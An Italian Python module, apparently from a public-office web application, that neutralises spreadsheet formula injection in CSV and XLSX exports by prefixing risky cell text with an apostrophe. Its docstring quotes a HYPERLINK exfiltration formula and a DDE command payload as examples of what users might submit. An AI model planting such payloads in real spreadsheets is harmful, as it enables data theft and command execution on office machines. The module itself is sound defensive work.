"""Celle sicure per i fogli di calcolo: nessun testo diventa una formula in Excel o LibreOffice.

Un cittadino che nel modulo pubblico scrive come nome ``=HYPERLINK("http://…?"&A2;"Apri")``
o ``-1+cmd|' /C calc'!A0`` non deve ritrovarsi una formula attiva nel foglio dell'ufficio.
Ogni testo che inizia con ``=``, ``+``, ``-``, ``@``, tabulazione o ritorno a capo riceve un
apostrofo davanti (Excel e LibreOffice lo mostrano come testo e non lo stampano); nelle celle
XLSX il valore si scrive inoltre come testo esplicito. Chi scrive un CSV o un XLSX usa solo
queste funzioni (``tests/ostili`` lo controlla).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import Any

INIZI_PERICOLOSI = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def cella_sicura(valore: Any) -> Any:
    """Il valore da scrivere nella cella: i testi che iniziano come una formula diventano testo puro.

    I numeri (``int``, ``float``, ``Decimal``) restano numeri: non sono formule. Un testo che
    sembra un numero negativo («-12,5») riceve comunque l'apostrofo: nel CSV è un testo.
    """
    if valore is None or isinstance(valore, (bool, int, float)):
        return valore
    testo = str(valore)
    if testo.lstrip(" ")[:1] in INIZI_PERICOLOSI:
        return "'" + testo
    return testo


def riga_sicura(valori: Iterable[Any]) -> list[Any]:
    return [cella_sicura(v) for v in valori]


def csv_sicuro(intestazioni: list[str], righe: Iterable[Iterable[Any]], *, separatore: str = ";",
               bom: bool = True) -> bytes:
    """Un CSV (UTF-8, BOM per Excel italiano, CRLF) con tutte le celle neutralizzate."""
    buf = io.StringIO()
    w = csv.writer(buf, delimiter=separatore, lineterminator="\r\n")
    w.writerow(riga_sicura(intestazioni))
    for r in righe:
        w.writerow(riga_sicura("" if v is None else v for v in r))
    return (("\ufeff" if bom else "") + buf.getvalue()).encode("utf-8")


def xlsx_sicuro(intestazioni: list[str], righe: Iterable[Iterable[Any]], *, titolo: str = "Foglio1",
                larghezza_massima: int = 50) -> bytes:
    """Un XLSX con intestazioni in grassetto, prima riga bloccata e celle di testo mai formule."""
    from openpyxl import Workbook
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    wb = Workbook()
    ws = wb.active
    ws.title = titolo[:31]
    larghezze = [len(str(h)) for h in intestazioni]
    ws.append(riga_sicura(intestazioni))
    for cell in ws[1]:
        cell.font = Font(bold=True)
    for n, r in enumerate(righe, start=2):
        for j, v in enumerate(r, start=1):
            v = cella_sicura(v)
            cell = ws.cell(row=n, column=j)
            cell.value = v
            if isinstance(v, str):
                cell.data_type = "s"  # testo esplicito: openpyxl altrimenti tratta «=…» come formula
                if j <= len(larghezze):
                    larghezze[j - 1] = max(larghezze[j - 1], len(v))
    for i, lg in enumerate(larghezze, start=1):
        ws.column_dimensions[get_column_letter(i)].width = min(larghezza_massima, lg + 2)
    ws.freeze_panes = "A2"
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()
